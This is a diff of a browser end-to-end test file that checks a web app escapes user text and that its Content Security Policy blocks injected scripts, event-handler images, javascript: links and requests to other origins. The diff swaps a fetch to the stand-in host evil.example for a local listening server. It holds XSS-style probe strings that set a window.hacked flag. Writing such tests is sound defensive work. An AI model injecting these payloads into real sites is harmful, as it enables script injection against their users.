@@ -1,3 +1,5 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { beforeAll, expect, test } from 'vitest'
 import { visitor } from '../support/browser'
 import * as releases from '../support/releases'
@@ -56,13 +58,15 @@ const PLACES = [
 
 test.each(PLACES)('text is only ever text on %s', async (place) => {
   const someone = await visitor()
-  // What is no beginning of a device's id is refused, where it was asked for.
-  someone.expectsComplaint(/400/)
+  // What is no beginning of a device's id is refused, where it was asked for; and the image below is not there.
+  someone.expectsComplaint(/400|404.*\/x /)
   const { page } = someone
   await page.goto(place === 'the release' ? `/releases/${release}` : place)
   await page.locator('main h1').waitFor()
   await page.locator('[data-live="live"]').waitFor()
-  await page.waitForTimeout(1_000)
+  await page.waitForLoadState('networkidle')
+  // One more image that is not there has failed: so have all that came before.
+  await page.evaluate(() => new Promise((failed) => Object.assign(new Image(), { onerror: failed, src: '/x' })))
   expect(await page.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined()
   expect(await page.locator('main img, main script, main svg[onload], main [href^="javascript:" i]').count()).toBe(0)
   for (const width of [1280, 768]) {
@@ -93,20 +97,50 @@ test('the policy stops what would get past', async () => {
   await page.goto('/tasks')
   await page.getByRole('heading', { name: 'Tasks' }).waitFor()
   someone.expectsComplaint(/Content Security Policy|Refused to/i)
-  const outcome = await page.evaluate(async () => {
-    const host = document.createElement('div')
-    host.innerHTML = '<img src="data:," onerror="window.hacked=1"><a href="javascript:window.hacked=2">x</a>'
-    document.body.append(host)
-    host.querySelector('a')?.click()
-    const script = document.createElement('script')
-    script.textContent = 'window.hacked=3'
-    document.body.append(script)
-    const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
-      () => 'sent',
-      () => 'refused',
-    )
-    await new Promise((resolve) => setTimeout(resolve, 500))
-    return { hacked: (window as unknown as { hacked?: number }).hacked ?? null, sent }
-  })
-  expect(outcome).toEqual({ hacked: null, sent: 'refused' })
+  const elsewhere = await listening()
+  try {
+    const outcome = await page.evaluate(async (address) => {
+      const host = document.createElement('div')
+      host.innerHTML = '<img src="data:," onerror="window.hacked=1"><a href="javascript:window.hacked=2">x</a>'
+      document.body.append(host)
+      host.querySelector('a')?.click()
+      const script = document.createElement('script')
+      script.textContent = 'window.hacked=3'
+      document.body.append(script)
+      const sent = await fetch(`${address}fetched`, { mode: 'no-cors' }).then(
+        () => 'sent',
+        () => 'refused',
+      )
+      await new Promise((done) => Object.assign(new Image(), { onload: done, onerror: done, src: `${address}image` }))
+      await new Promise((done) => {
+        const loaded = document.createElement('script')
+        Object.assign(loaded, { onload: done, onerror: done, src: `${address}script` })
+        document.body.append(loaded)
+      })
+      return { hacked: (window as unknown as { hacked?: number }).hacked ?? null, sent }
+    }, elsewhere.address)
+    expect(outcome).toEqual({ hacked: null, sent: 'refused' })
+    // It is there for whoever may ask it.
+    await fetch(`${elsewhere.address}asked`)
+    expect(elsewhere.asked).toEqual(['/asked'])
+  } finally {
+    await elsewhere.close()
+  }
 })
+
+/** Another origin on this machine, which notes what it is asked for. */
+async function listening() {
+  const asked: string[] = []
+  const server = createServer((request, response) => {
+    asked.push(request.url ?? '')
+    response.end()
+  })
+  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
+  const { port } = server.address() as AddressInfo
+  const close = () =>
+    new Promise((done) => {
+      server.close(done)
+      server.closeAllConnections()
+    })
+  return { asked, address: `http://127.0.0.1:${port}/`, close }
+}
